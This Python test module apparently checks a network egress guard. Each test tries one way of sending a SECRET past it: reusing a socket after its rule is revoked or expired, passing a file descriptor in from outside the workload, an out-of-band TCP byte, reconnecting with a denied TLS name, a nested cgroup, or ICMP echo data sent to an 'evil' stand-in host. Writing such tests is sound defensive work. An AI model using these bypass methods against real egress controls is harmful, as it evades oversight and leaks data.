"""Escapes, continued: those that rest on what is remembered of a socket, its workload or its policy."""

import socket
import threading
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

from bed import call_in
from e2e.escape_ways import SECRET, WAYS, Scene, way
from e2e.escapes import (
    Steps,
    ask,
    dial,
    got,
    hello,
    hosts_drop,
    later_managed,
    rules,
    sleeping_send,
    tcp,
    unspecify,
)
from e2e.guard import rule
from exeat.model.policy import Mode

__all__ = ["JUDGEMENTS", "WAYS"]

JUDGEMENTS = (  # none of these hides another
    "generation",
    "expiry",
    "foreign",
    "loopback",
    "reconnect",
    "urgent",
    "queue",
    "unbound",
    "nested",
    "quarantine",
    "icmp",
)


def _kept(scene: Scene, change: Callable[[Any], Any], **more: Any) -> bool:
    def client(pause: Callable[[], None]) -> Any:
        sock = tcp("")
        sock.connect((scene.good.address4, 7))
        ask(sock, b"1")
        pause()
        return ask(sock, SECRET)

    with scene.guard.workload(*rules(scene.good, **more)) as w, Steps(scene.bed, client, w.cgroup) as steps:
        change(w)
        steps.go_on()
        return scene.good.count().bytes > 1


@way(*JUDGEMENTS)
def revoked(scene: Scene) -> bool:
    """No rule allows it any more."""
    return _kept(scene, lambda w: w.switch())


@way(*JUDGEMENTS)
def expired(scene: Scene) -> bool:
    """Its rule is over."""
    return _kept(scene, lambda w: time.sleep(0.7), expires=datetime.now(UTC) + timedelta(seconds=0.6))


@way(*JUDGEMENTS)
def quarantined(scene: Scene) -> bool:
    """A new connection, in quarantine."""
    with scene.guard.workload(*rules(scene.good), mode=Mode.QUARANTINE) as w:
        return isinstance(call_in(scene.bed, lambda: dial(scene.good.address4), cgroup=w.cgroup), bytes)


@way(*JUDGEMENTS)
def handed_over(scene: Scene) -> bool:
    """A socket that was made outside of the workload."""
    ours, theirs = socket.socketpair()

    def use() -> Any:
        _, fds, _, _ = socket.recv_fds(theirs, 1, 1)
        sock = socket.socket(fileno=fds[0])
        sock.settimeout(0.4)
        return dial(scene.evil.address4, sock=sock)

    def give() -> None:
        with tcp("") as sock:
            socket.send_fds(ours, [b"."], [sock.fileno()])

    with ours, theirs:
        call_in(scene.bed, give, cgroup=scene.guard.top)
        scene.run(use)
    return scene.evil.count().bytes > 0


@way(*JUDGEMENTS)
def foreign_loopback(scene: Scene) -> bool:
    """A service of the host on loopback."""
    listener = scene.bed.network.client.call(lambda: socket.create_server(("127.0.0.1", 0)))
    with listener:
        port = listener.getsockname()[1]
        scene.run(lambda: got(lambda: tcp("").connect(("127.0.0.1", port))))
        listener.settimeout(0.2)
        return not isinstance(got(listener.accept), str)


@way(*JUDGEMENTS)
def reconnected(scene: Scene) -> bool:
    """A denied name on a socket that had an allowed one."""
    ours, theirs = hello("good.test"), hello("evil.test")

    def client() -> Any:
        sock = tcp("")
        sock.connect((scene.good.address4, 8443))
        sock.send(ours)
        unspecify(sock)
        sock.connect((scene.good.address4, 8443))
        return got(lambda: sock.send(theirs))

    scene.run(client)
    return scene.good.count().bytes > len(ours)


@way(*JUDGEMENTS)
def urgent_byte(scene: Scene) -> bool:
    """A judged hello of which the server would miss a byte."""
    ours = hello("good.test")

    def client() -> Any:
        sock = tcp("")
        sock.connect((scene.good.address4, 8443))
        sock.send(ours[:-1])
        return got(lambda: sock.send(ours[-1:], socket.MSG_OOB))

    scene.run(client)
    return scene.good.count().bytes == len(ours) - 1


@way(*JUDGEMENTS)
def slept_through_the_handshake(scene: Scene) -> bool:
    """A denied name that waited in the kernel, followed by an allowed one."""
    ours, theirs = hello("good.test"), hello("evil.test")
    with scene.guard.workload(*rules(scene.good)) as w:
        thread = threading.Thread(
            target=lambda: call_in(
                scene.bed, lambda: sleeping_send(scene.good.address4, 8443, theirs, ours), cgroup=w.cgroup
            )
        )
        with hosts_drop(scene.bed, "tcp dport 8443 tcp flags syn"):
            thread.start()
            time.sleep(0.5)
        thread.join()
        return scene.good.count().bytes > 0


@way(*JUDGEMENTS)
def outlived_its_workload(scene: Scene) -> bool:
    """Bytes that were held back when the workload was there."""

    def client(pause: Callable[[], None]) -> Any:
        sock = tcp("")
        sock.connect((scene.good.address4, 7))
        pause()
        sock.send(SECRET)

    with later_managed(scene.guard) as w:
        w.switch(*rules(scene.good))
        with Steps(scene.bed, client, w.cgroup) as steps:
            w.switch(rule("203.0.113.250", ports=(1,)))
            steps.go_on()
    time.sleep(1.2)
    return scene.good.count().bytes > 0


@way(*JUDGEMENTS)
def further_down(scene: Scene) -> bool:
    """A cgroup inside the workload's."""
    with scene.guard.workload(*rules(scene.good)) as w:
        child = w.cgroup / "inner"
        child.mkdir()
        return isinstance(call_in(scene.bed, lambda: dial(scene.evil.address4), cgroup=child), bytes)


@way(*JUDGEMENTS)
def pinged_elsewhere(scene: Scene) -> bool:
    """An echo request to a host that the icmp rule does not name."""

    def client() -> Any:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        return got(lambda: sock.sendto(b"\x08\0\0\0\0\0\0\1" + SECRET, (scene.evil.address4, 0)))

    with scene.guard.workload(rule(scene.good.address4, protocol="icmp")) as w:
        call_in(scene.bed, client, cgroup=w.cgroup)
    return scene.wire.saw(SECRET)
